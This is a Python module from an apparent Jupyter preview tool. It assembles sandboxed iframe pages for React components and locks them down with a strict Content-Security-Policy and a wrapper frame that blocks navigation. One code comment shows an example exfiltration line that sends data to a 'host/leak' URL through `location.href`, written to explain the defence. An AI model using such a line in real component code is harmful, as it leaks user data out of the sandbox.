"""The page a preview's sandboxed iframe runs: the bundled runtime plus one component.

    >>> page = runtime_page("export default () => <b>hi</b>", props={}, language="jsx")
    >>> iframe_html(page, height=200)      # the static text/html display of the same frame

The bundles (`lfwb/static/runtime.js`: React 18, ReactDOM, sucrase and a `framer` stand-in;
`motion.js`: framer-motion, inlined only for a component that imports it) are built from
`extension/` by `make setup` and inlined into the page, so nothing is fetched at run time; the
page's Content-Security-Policy blocks the network anyway.
"""

from __future__ import annotations

import html
import json
import re
from functools import lru_cache
from pathlib import Path

from ..errors import PreviewUnavailable

STATIC = Path(__file__).resolve().parent.parent / "static"

# Never allow-same-origin: with it, the frame's script could reach the notebook page, its
# cookies and the Jupyter token. allow-scripts alone gives the frame an opaque origin.
SANDBOX = "allow-scripts"
# default-src 'none' stops fetch, WebSocket, images from the network and nested frames; form
# submission and <base> are not covered by default-src, so they are named too.
CSP = (
    "default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data:; "
    "font-src data:; form-action 'none'; base-uri 'none'"
)
STATIC_HEIGHT = 360  # the saved/nbconvert display cannot ask the frame its height

_TYPESCRIPT = re.compile(
    r"\binterface\s+\w+|\btype\s+\w+\s*=|\)\s*:\s*\w|\bas\s+const\b|:\s*(string|number|boolean|React\.)"
)


def static_file(name: str) -> str:
    """A built front-end file's text; one line on what to do when it was never built."""
    return _read(STATIC / name, (STATIC / name).stat().st_mtime_ns if (STATIC / name).exists() else 0)


@lru_cache(maxsize=4)
def _read(path: Path, mtime_ns: int) -> str:
    if not mtime_ns:
        raise PreviewUnavailable(
            f"the preview runtime is not built ({path.name} is missing from lfwb/static): "
            "run `make setup`, which bundles extension/ with npm"
        )
    return path.read_text(encoding="utf-8")


def guess_language(source: str) -> str:
    """`tsx` when the source has TypeScript syntax (types, interfaces, annotations), else `jsx`."""
    return "tsx" if _TYPESCRIPT.search(source) else "jsx"


# A frame may always navigate itself, and neither the sandbox nor the frame's own CSP stops it:
# `location.href = "http://host/leak?d=..."` would send data out. The Navigation API's cancelable
# `navigate` event never fires in an opaque-origin document, so the component page runs one frame
# deeper, in a wrapper whose CSP (default-src 'none', hence frame-src 'none') Chromium checks
# before the request of any navigation of its child. The wrapper relays messages both ways, so
# the host sees one frame; a navigation that was blocked still ends in a `load` of the child's
# error page: the wrapper reports it and shows the component again, once.
_WRAPPER_JS = """const f = document.querySelector("iframe"), page = f.getAttribute("srcdoc");
let loads = 0;
addEventListener("message", (e) => {
  if (e.source === f.contentWindow) parent.postMessage(e.data, "*");
  else if (e.source === parent) f.contentWindow.postMessage(e.data, "*");
});
f.addEventListener("load", () => {
  loads += 1;
  if (loads === 1 || loads > 3) return;
  parent.postMessage({ lfwb: "preview", type: "error", error: { stage: "navigate", name: "NavigationBlocked", line: null,
    message: "the component tried to navigate its frame to another page, which the preview does not allow" } }, "*");
  if (loads === 2) f.srcdoc = page;
});"""


def runtime_page(source: str, props: dict | None = None, language: str | None = None) -> str:
    """The whole HTML document of one preview frame (for `<iframe srcdoc=...>`): the component's
    page inside a wrapper that stops it from navigating."""
    inner = component_page(source, props, language).replace("&", "&amp;").replace('"', "&quot;")
    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
        "<style>html,body{margin:0;height:100%;overflow:hidden}"
        "iframe{display:block;width:100%;height:100%;border:0}</style></head><body>"
        f'<iframe sandbox="{SANDBOX}" title="component" srcdoc="{inner}"></iframe><script>{_WRAPPER_JS}</script></body></html>'
    )


def component_page(source: str, props: dict | None = None, language: str | None = None) -> str:
    """The component's own page: the bundled runtime and the source, which run inside the wrapper."""
    language = language or guess_language(source)
    config = json.dumps({"source": source, "props": props or {}, "language": language})
    # Inside <script> only "</" and "<!--" could end or confuse it; \u003c reads the same in JSON.
    config = config.replace("<", "\\u003c")
    bundle = static_file("runtime.js")
    # framer-motion is a third of the code to parse: only a component that names it gets it.
    motion = f"<script>{static_file('motion.js')}</script>" if "framer-motion" in source else ""
    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">'
        "<style>html,body{margin:0;background:white;font:14px system-ui,sans-serif;color:#111}"
        "#root{padding:8px;display:flow-root}</style></head><body><div id='root'></div>"
        f"<script type='application/json' id='lfwb-config'>{config}</script>"
        f"<script>{bundle}</script>{motion}</body></html>"
    )


def iframe_html(page: str, height: int | None = None, caption: str | None = None) -> str:
    """The sandboxed iframe as static HTML: what a saved notebook or nbconvert shows."""
    height = height or STATIC_HEIGHT
    # In a double-quoted attribute only & and " need escaping; escaping <, > and ' too would
    # grow the inlined bundle by a third in every saved notebook.
    srcdoc = page.replace("&", "&amp;").replace('"', "&quot;")
    frame = (
        f'<iframe sandbox="{SANDBOX}" title="lfwb preview" srcdoc="{srcdoc}" '
        f'style="width:100%;height:{int(height)}px;border:1px solid #ddd;border-radius:4px;background:white"></iframe>'
    )
    note = caption or (
        "static preview of the component (no controls); if it is blank, trust the notebook "
        "(File ▸ Trust Notebook) or rerun the cell"
    )
    return f'<div class="lfwb-preview">{frame}<div style="font-size:11px;color:#777">{html.escape(note)}</div></div>'
